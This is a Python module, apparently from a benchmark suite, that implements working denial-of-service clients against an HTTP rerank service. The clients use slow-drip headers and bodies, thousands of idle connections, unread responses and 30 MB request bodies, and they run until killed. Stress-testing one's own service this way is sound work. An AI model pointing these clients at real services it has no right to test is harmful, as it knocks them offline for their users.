"""Clients that do to a service what reliable clients never do, each until its process is ended.

python -m benchmarks.attacks.attackers NAME HOST PORT
"""

import asyncio
import json
import resource
import socket
import sys
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass

BIG_BODY_BYTES = 30 * 2**20
FEW_FILES = "few_files"
"""The name of an attack of idle connections on a service that may open few files."""

_POST = b"POST /rerank HTTP/1.1\r\nHost: service\r\nContent-Type: application/json\r\n"
_BLOCK = b"x" * 65536


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """Some connections that all do the same."""

    description: str
    connections: int
    behave: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
    pause_seconds: float = 0.5  # before a connection that the service has closed is made again
    reads_little: bool = False  # the system takes few bytes from the service before it waits for the program


async def _endless_header(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_POST + b"X-Long: ")
    while True:
        await _send(writer, _BLOCK)


async def _dripped_head(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_POST)
    while True:
        await _send(writer, b"X-Drip: 1\r\n")
        await asyncio.sleep(2)


async def _idle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.read()


async def _dripped_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_POST + b"Content-Length: 1000000\r\n\r\n")
    while True:
        await _send(writer, b" ")
        await asyncio.sleep(5)


async def _dripped_chunks(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_POST + b"Transfer-Encoding: chunked\r\n\r\n")
    while True:
        await _send(writer, b"1\r\n \r\n")
        await asyncio.sleep(5)


async def _unread_answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """The metadata come back with the answer, which is therefore larger than all buffers on the way."""
    documents = [{"text": "river", "metadata": "x" * 60_000}] * 8
    body = json.dumps({"query": "river", "documents": documents}).encode()
    writer.write(_POST + b"Content-Length: %d\r\n\r\n" % len(body))
    await _send(writer, body)
    while not writer.is_closing():
        await asyncio.sleep(1)


def _big_body(
    member: bytes, *, as_list: bool
) -> Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]:
    """A body of `BIG_BODY_BYTES` that is full of these members."""
    begin, end = (b'{"query":"river","documents":["river"],"x":[', b"0]}") if as_list else (b"{", b'"query":"river"}')
    body = begin + member * (BIG_BODY_BYTES // len(member)) + end

    async def behave(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(_POST + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body))
        writer.write(body)
        await reader.read()

    return behave


ATTACKS: Mapping[str, Attack] = {
    "endless_header": Attack(description="one header without end", connections=16, behave=_endless_header),
    "dripped_heads": Attack(description="a head that never ends, slowly", connections=200, behave=_dripped_head),
    "idle_connections": Attack(
        description="connections without a request", connections=2000, behave=_idle, pause_seconds=10
    ),
    "unread_answers": Attack(
        description="answers that nobody reads",
        connections=64,
        behave=_unread_answer,
        pause_seconds=30,
        reads_little=True,
    ),
    "dripped_bodies": Attack(description="bodies at a byte in 5 s", connections=64, behave=_dripped_body),
    "dripped_chunks": Attack(description="chunked bodies at a byte in 5 s", connections=16, behave=_dripped_chunks),
    "empty_objects": Attack(
        description="30 MB of empty objects",
        connections=6,
        behave=_big_body(b"{},", as_list=True),
        pause_seconds=5,
    ),
    "ignored_fields": Attack(
        description="30 MB of fields that are ignored",
        connections=6,
        behave=_big_body(b'"a":0,', as_list=False),
        pause_seconds=5,
    ),
}


async def _send(writer: asyncio.StreamWriter, data: bytes) -> None:
    writer.write(data)
    await writer.drain()


async def _keep_attacking(attack: Attack, host: str, port: int) -> None:
    """One connection after the other."""
    while True:
        with suppress(OSError):
            connection = socket.socket()
            connection.setblocking(False)
            if attack.reads_little:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
            await asyncio.get_running_loop().sock_connect(connection, (host, port))
            reader, writer = await asyncio.open_connection(sock=connection)
            try:
                await attack.behave(reader, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(attack.pause_seconds)


async def _attack(attack: Attack, host: str, port: int, connections: int) -> None:
    await asyncio.gather(*(_keep_attacking(attack, host, port) for _ in range(connections)))


def main() -> None:
    name, host, port, connections = sys.argv[1:]
    _, most_files = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most_files, most_files))
    asyncio.run(_attack(ATTACKS[name], host, int(port), int(connections)))


if __name__ == "__main__":
    main()
